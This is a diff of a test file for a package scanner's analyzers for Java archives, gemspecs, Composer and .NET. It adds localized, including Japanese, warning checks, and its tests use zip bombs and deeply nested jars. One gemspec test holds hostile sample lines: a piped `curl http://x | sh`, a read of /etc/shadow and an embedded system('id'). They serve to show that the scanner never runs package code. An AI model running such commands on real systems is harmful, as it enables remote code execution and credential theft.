@@ -3,12 +3,14 @@ import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
 import { execFileSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
+import { english } from '../../../src/core/message.js';
+import { localizeMessage } from '../../../src/i18n/user-errors.js';
 import { javaAnalyzer, JAR_CAPS, manifestGav, parseManifest, parseProperties, readJar } from '../../../src/packages/analyzers/java.js';
 import { gemspecAnalyzer } from '../../../src/packages/analyzers/gemspec.js';
 import { composerAnalyzer } from '../../../src/packages/analyzers/composer.js';
 import { dotnetAnalyzer } from '../../../src/packages/analyzers/dotnet.js';
 import { dpkgAnalyzer } from '../../../src/packages/analyzers/dpkg.js';
-import { zipEntries } from '../../../src/packages/zip.js';
+import { ZipError, zipEntries } from '../../../src/packages/zip.js';
 import { makeZip } from './zip-writer.js';
 import { analyzeKept, keepFor } from '../../../src/packages/wanted.js';
 
@@ -63,7 +65,7 @@ describe('Java archives', () => {
   it('keeps a few hundred bytes of an archive while the layer streams, and tags the layer on analysis', () => {
     expect(keepFor('app.jar', 0o644, jar('fat.jar'))!.length).toBeLessThan(1024);
     expect(viaWalker('app.jar', jar('fat.jar')).packages.every((p) => p.layer === 'sha256:l')).toBe(true);
-    expect(javaAnalyzer.analyze({ path: 'x.jar', content: Buffer.from('PK garbage'), layer: 'l' }).warnings).toEqual([
+    expect(javaAnalyzer.analyze({ path: 'x.jar', content: Buffer.from('PK garbage'), layer: 'l' }).warnings.map(english)).toEqual([
       'x.jar: unreadable archive record, skipped',
     ]);
   });
@@ -71,7 +73,7 @@ describe('Java archives', () => {
   it('takes no coordinates from a manifest that only describes: the file name is the last source, without a group', () => {
     const out = viaWalker('usr/share/java/commons-logging-adapters-1.2.jar', jar('commons-logging-adapters-1.2.jar'));
     expect(out.packages.map((p) => [p.name, p.version, p.purl])).toEqual([['commons-logging-adapters', '1.2', 'pkg:maven/commons-logging-adapters@1.2']]);
-    expect(out.warnings).toEqual([
+    expect(out.warnings.map(english)).toEqual([
       'usr/share/java/commons-logging-adapters-1.2.jar: no pom.properties and no Maven coordinates in MANIFEST.MF: listed as commons-logging-adapters 1.2 from its file name, group unknown',
     ]);
     const m = parseManifest(
@@ -84,10 +86,33 @@ describe('Java archives', () => {
     const bomb = makeZip([{ name: 'BOOT-INF/lib/bomb.jar', data: Buffer.alloc(8 * 1024 * 1024) }]);
     const out = readJar(bomb, 'bomb.jar', 'l', { ...JAR_CAPS, maxEntryBytes: 1024 * 1024 });
     expect(out.packages).toEqual([]);
-    expect(out.warnings).toEqual(['bomb.jar: BOOT-INF/lib/bomb.jar: expands beyond 1048576 bytes (a zip bomb?): not read']);
+    expect(out.warnings.map(english)).toEqual(['bomb.jar: BOOT-INF/lib/bomb.jar: expands beyond 1048576 bytes (a zip bomb?): not read']);
+    expect(out.warnings[0]).toMatchObject({ id: 'analyzers.java.notRead', data: { reason: { id: 'analyzers.zip.bomb' } } });
     const many = makeZip(Array.from({ length: 20 }, (_, i) => ({ name: `lib/x${i}.jar`, data: Buffer.alloc(600 * 1024) })));
     const out2 = readJar(many, 'many.jar', 'l', { ...JAR_CAPS, maxTotalBytes: 4 * 1024 * 1024 });
-    expect(out2.warnings.filter((w) => /a zip bomb\?/.test(w)).length).toBeGreaterThan(10);
+    expect(out2.warnings.filter((w) => /a zip bomb\?/.test(english(w))).length).toBeGreaterThan(10);
+  });
+
+  it("says an archive it did not read in Japanese, with the zip reader's reason, after the walker kept it", () => {
+    const bomb = makeZip([{ name: 'BOOT-INF/lib/bomb.jar', data: Buffer.alloc(64 * 1024 * 1024 + 1) }]);
+    const [w] = viaWalker('app/bomb.jar', bomb).warnings;
+    expect(english(w!)).toBe('app/bomb.jar: BOOT-INF/lib/bomb.jar: expands beyond 67108864 bytes (a zip bomb?): not read');
+    expect(localizeMessage(w!, 'ja')).toBe('app/bomb.jar: BOOT-INF/lib/bomb.jar: 展開すると 67108864 バイトを超えます（zip 爆弾？）: 読んでいません');
+    const broken = javaAnalyzer.reduce!('x.jar', Buffer.from('PK\x03\x04 not a whole zip archive'))!;
+    const [notZip] = javaAnalyzer.analyze({ path: 'x.jar', content: broken, layer: 'l' }).warnings;
+    expect(localizeMessage(notZip!, 'ja')).toBe(
+      'x.jar: セントラルディレクトリの終端がありません（zip アーカイブでないか、途中で切れています）: 読んでいません',
+    );
+    const e = (() => {
+      try {
+        zipEntries(Buffer.alloc(10), 10);
+      } catch (err) {
+        return err;
+      }
+    })();
+    expect(e).toBeInstanceOf(ZipError);
+    expect((e as ZipError).message).toBe('too short to be a zip archive');
+    expect(localizeMessage((e as ZipError).text, 'ja')).toBe('zip アーカイブにしては短すぎます');
   });
 
   it('stops a jar nested 50 levels deep at the depth cap', () => {
@@ -95,7 +120,9 @@ describe('Java archives', () => {
     for (let i = 0; i < 50; i++) inner = makeZip([{ name: `lib/level${i}.jar`, data: inner, store: true }]);
     const out = viaWalker('deep.jar', inner);
     expect(out.packages).toEqual([]);
-    expect(out.warnings).toEqual([expect.stringMatching(/^deep\.jar(\/lib\/level\d+\.jar){8}: 1 archive\(s\) nested deeper than 8 levels: not read$/)]);
+    expect(out.warnings.map(english)).toEqual([
+      expect.stringMatching(/^deep\.jar(\/lib\/level\d+\.jar){8}: 1 archive\(s\) nested deeper than 8 levels: not read$/),
+    ]);
   });
 
   it('never throws on mutated archives', () => {
@@ -126,7 +153,8 @@ describe('Ruby gemspecs', () => {
   it('never runs Ruby code: a computed version is refused with a warning', () => {
     const evil = 'Gem::Specification.new do |s|\n  s.name = "evil"\n  s.version = `curl http://x | sh`\n  s.version2 = File.read("/etc/shadow")\nend\n';
     const out = gemspecAnalyzer.analyze({ path: 'specifications/evil.gemspec', content: Buffer.from(evil), layer: 'l' });
-    expect(out).toEqual({ packages: [], warnings: ['specifications/evil.gemspec: name or version is Ruby code, not a string (it is never run): skipped'] });
+    expect(out.packages).toEqual([]);
+    expect(out.warnings.map(english)).toEqual(['specifications/evil.gemspec: name or version is Ruby code, not a string (it is never run): skipped']);
     const interp = 's.name = "a#{system("id")}"\ns.version = "1.0"\n';
     expect(gemspecAnalyzer.analyze({ path: 'specifications/i.gemspec', content: Buffer.from(interp), layer: 'l' }).packages).toEqual([]);
     fc.assert(fc.property(fc.string(), (s) => void gemspecAnalyzer.analyze({ path: 'specifications/x.gemspec', content: Buffer.from(s), layer: 'l' })));
@@ -141,10 +169,9 @@ describe('Composer, .NET, distroless dpkg', () => {
       ['pkg:composer/pear/log@1.13.3', 'MIT'],
       ['pkg:composer/pear/pear_exception@v1.0.2', 'BSD-2-Clause'],
     ]);
-    expect(composerAnalyzer.analyze({ path: 'x', content: Buffer.from('[{"name":"a/b","version":"1.0"},{"name":1}]'), layer: 'l' })).toMatchObject({
-      packages: [{ name: 'a/b' }],
-      warnings: ['x: 1 entry without name or version skipped'],
-    });
+    const one = composerAnalyzer.analyze({ path: 'x', content: Buffer.from('[{"name":"a/b","version":"1.0"},{"name":1}]'), layer: 'l' });
+    expect(one.packages).toMatchObject([{ name: 'a/b' }]);
+    expect(one.warnings.map(english)).toEqual(['x: 1 entry without name or version skipped']);
   });
 
   it('reads the NuGet packages of a deps.json, not the projects', () => {
